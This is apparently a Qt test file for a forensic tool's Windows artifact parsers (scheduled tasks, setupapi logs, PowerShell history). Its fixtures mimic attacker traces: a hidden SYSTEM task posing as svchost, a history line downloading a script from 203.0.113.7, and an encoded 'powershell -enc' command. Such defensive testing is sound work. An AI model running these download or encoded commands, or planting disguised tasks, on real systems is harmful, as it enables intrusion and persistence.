// Scheduled-task XML, setupapi.dev.log and PowerShell ConsoleHost_history.txt
// over fixtures written here; every expected time is the fixture's own text
// converted with QDateTime, every message follows from the fixture's fields.
#include <QDateTime>
#include <QFile>
#include <QTemporaryDir>
#include <QtTest>

#include "collecting_sink.h"
#include "parsers/textlog/history_parser.h"
#include "parsers/textlog/setupapi_parser.h"
#include "parsers/windows/scheduled_task_parser.h"
#include "support/test_support.h"

using namespace harrier;
using harrier::test::CollectingSink;

namespace {

qint64 us(int y, int mo, int d, int h, int mi, int s, int ms = 0) {
    return QDateTime(QDate(y, mo, d), QTime(h, mi, s), Qt::UTC).toSecsSinceEpoch() * 1000000 + qint64(ms) * 1000;
}

// Runs a parser the way the pipeline does, with an optional known modification time.
Result<void> run(ingest::Parser &parser, const QString &path, CollectingSink &sink, ingest::Confidence &sniffed,
                 std::optional<UtcTime> modified = std::nullopt) {
    QFile f(path);
    if (!f.open(QIODevice::ReadOnly))
        return makeError(ErrorCode::Io, "cannot open");
    const QByteArray head = f.read(64 * 1024);
    ingest::ItemInput item;
    item.objectId = test::kItemId;
    item.sourceId = 1;
    item.localPath = item.path = path.toStdString();
    item.name = path.section('/', -1).toStdString();
    item.size = std::uint64_t(f.size());
    item.head = ByteView(reinterpret_cast<const std::uint8_t *>(head.constData()), std::size_t(head.size()));
    item.modified = modified;
    sniffed = parser.sniff(item.head, item.name);
    return parser.parse(item, sink, ingest::ParseContext{});
}

}  // namespace

class TestWindowsTextArtifacts : public QObject {
    Q_OBJECT
    QTemporaryDir m_tmp;

private slots:
    void scheduledTaskUtf16() {
        const QString xml = QStringLiteral(
            "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n"
            "<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n"
            "  <RegistrationInfo><Date>2026-11-19T23:01:02</Date><Author>CORP\\bob</Author>"
            "<URI>\\Microsoft\\Windows\\Update\\svchost</URI></RegistrationInfo>\r\n"
            "  <Triggers><TimeTrigger><StartBoundary>2026-11-20T02:00:00</StartBoundary></TimeTrigger>"
            "<LogonTrigger><StartBoundary>2026-11-21T00:00:00</StartBoundary></LogonTrigger></Triggers>\r\n"
            "  <Principals><Principal id=\"Author\"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel>"
            "</Principal></Principals>\r\n"
            "  <Settings><Hidden>true</Hidden><Enabled>true</Enabled></Settings>\r\n"
            "  <Actions Context=\"Author\"><Exec><Command>C:\\ProgramData\\svc.exe</Command>"
            "<Arguments>-k run</Arguments></Exec></Actions>\r\n"
            "</Task>\r\n");
        QByteArray bytes("\xFF\xFE", 2);  // Task Scheduler writes UTF-16LE with a BOM
        for (const QChar c : xml) {
            bytes.append(char(c.unicode() & 0xFF));
            bytes.append(char(c.unicode() >> 8));
        }
        const QString path = m_tmp.filePath("svchost");
        test::writeFile(path, bytes);
        parsers::windows::ScheduledTaskParser parser;
        CollectingSink sink;
        ingest::Confidence c{};
        QVERIFY(run(parser, path, sink, c).ok());
        QCOMPARE(c, ingest::Confidence::Magic);
        QCOMPARE(sink.objects.size(), std::size_t(1));
        QCOMPARE(sink.objects[0].name, std::string("\\Microsoft\\Windows\\Update\\svchost"));
        QCOMPARE(sink.attribute(sink.objects[0], "command")->text, std::string("C:\\ProgramData\\svc.exe -k run"));
        QCOMPARE(sink.attribute(sink.objects[0], "run_level")->text, std::string("HighestAvailable"));
        QCOMPARE(sink.events.size(), std::size_t(3));
        const std::string message =
            "\\Microsoft\\Windows\\Update\\svchost runs \"C:\\ProgramData\\svc.exe -k run\" as S-1-5-18 "
            "(author CORP\\bob) [hidden]";
        const std::vector<std::pair<std::string, qint64>> expected = {
            {"Task Registered", us(2026, 11, 19, 23, 1, 2)},
            {"Task Trigger Start (TimeTrigger)", us(2026, 11, 20, 2, 0, 0)},
            {"Task Trigger Start (LogonTrigger)", us(2026, 11, 21, 0, 0, 0)}};
        for (std::size_t i = 0; i < expected.size(); ++i) {
            QCOMPARE(sink.events[i].timestampDesc, expected[i].first);
            QCOMPARE(sink.events[i].time.micros, expected[i].second);
            QCOMPARE(sink.events[i].message, message);
            QCOMPARE(sink.events[i].user, std::string("S-1-5-18"));
        }
    }

    void setupApiDevLog() {
        const QString path = m_tmp.filePath("setupapi.dev.log");
        test::writeFile(path,
                        "[Device Install Log]\r\n"
                        "     OS Version = 10.0.19045\r\n"
                        ">>>  [Device Install (Hardware initiated) - USBSTOR\\Disk&Ven_Kingston&Prod_DT&Rev_\\60A44C&0]\r\n"
                        ">>>  Section start 2026/11/20 09:41:12.345\r\n"
                        "     ump: Creating Install Process: DrvInst.exe 09:41:12.350\r\n"
                        "<<<  Section end 2026/11/20 09:41:13.901\r\n"
                        "<<<  [Exit status: SUCCESS]\r\n"
                        "\r\n"
                        ">>>  [Delete Device - SWD\\WPDBUSENUM\\X]\r\n"
                        ">>>  Section start 2026/13/45 09:00:00.000\r\n"  // month 13: unreadable
                        "<<<  Section end 2026/11/20 09:41:15.000\r\n"
                        "<<<  [Exit status: FAILURE(0xe0000219)]\r\n");
        parsers::textlog::SetupApiParser parser;
        CollectingSink sink;
        ingest::Confidence c{};
        QVERIFY(run(parser, path, sink, c).ok());
        QCOMPARE(c, ingest::Confidence::Magic);
        const auto counts = sink.counts.at(test::kItemId);
        QCOMPARE(counts.seen, 4ULL);
        QCOMPARE(counts.stored, 3ULL);
        QCOMPARE(counts.failed, 1ULL);
        const auto ev = sink.eventsOfType("windows:setupapi");
        QCOMPARE(ev.size(), std::size_t(3));
        const std::string usb = "Device Install (Hardware initiated) - USBSTOR\\Disk&Ven_Kingston&Prod_DT&Rev_\\60A44C&0";
        QCOMPARE(ev[0]->timestampDesc, std::string("Section Start"));
        QCOMPARE(ev[0]->time.micros, us(2026, 11, 20, 9, 41, 12, 345));
        QCOMPARE(ev[0]->message, usb);
        QCOMPARE(ev[1]->timestampDesc, std::string("Section End"));
        QCOMPARE(ev[1]->time.micros, us(2026, 11, 20, 9, 41, 13, 901));
        QCOMPARE(ev[1]->message, usb + " [Exit status: SUCCESS]");
        QCOMPARE(ev[2]->time.micros, us(2026, 11, 20, 9, 41, 15));
        QCOMPARE(ev[2]->message, std::string("Delete Device - SWD\\WPDBUSENUM\\X [Exit status: FAILURE(0xe0000219)]"));
        bool lineError = false;
        for (const auto &e : sink.errors)
            lineError |= e.severity == casestore::ErrorSeverity::Error && e.reason.find("line 10") != std::string::npos;
        QVERIFY2(lineError, "the unreadable section start (line 10) is not reported");
    }

    void powerShellHistory() {
        const QString path = m_tmp.filePath("ConsoleHost_history.txt");
        test::writeFile(path, "whoami\r\n\r\nInvoke-WebRequest http://203.0.113.7/a.ps1 -OutFile a.ps1\r\n"
                              "powershell -enc SQBFAFgA\r\n");
        parsers::textlog::HistoryParser parser;
        const qint64 mtime = us(2026, 11, 20, 7, 45, 30);
        CollectingSink sink;
        ingest::Confidence c{};
        QVERIFY(run(parser, path, sink, c, UtcTime{mtime}).ok());
        QCOMPARE(c, ingest::Confidence::Content);
        const auto counts = sink.counts.at(test::kItemId);
        QCOMPARE(counts.seen, 3ULL);  // the empty line is not a command
        QCOMPARE(counts.stored, 3ULL);
        const auto ev = sink.eventsOfType("windows:powershell:history");
        QCOMPARE(ev.size(), std::size_t(3));
        const char *commands[] = {"whoami", "Invoke-WebRequest http://203.0.113.7/a.ps1 -OutFile a.ps1",
                                  "powershell -enc SQBFAFgA"};
        for (std::size_t i = 0; i < 3; ++i) {
            QCOMPARE(ev[i]->time.micros, mtime);
            QCOMPARE(ev[i]->timestampDesc, std::string("History File Modified"));
            QCOMPARE(ev[i]->message, "PowerShell command " + std::to_string(i + 1) + ": " + commands[i]);
        }
        // Without any known modification time every command is a counted failure, never a made-up time.
        CollectingSink blind;
        QVERIFY(run(parser, path, blind, c).ok());
        QCOMPARE(blind.counts.at(test::kItemId).failed, 3ULL);
        QVERIFY(blind.events.empty());
    }
};

QTEST_GUILESS_MAIN(TestWindowsTextArtifacts)
#include "tst_windows_text_artifacts.moc"
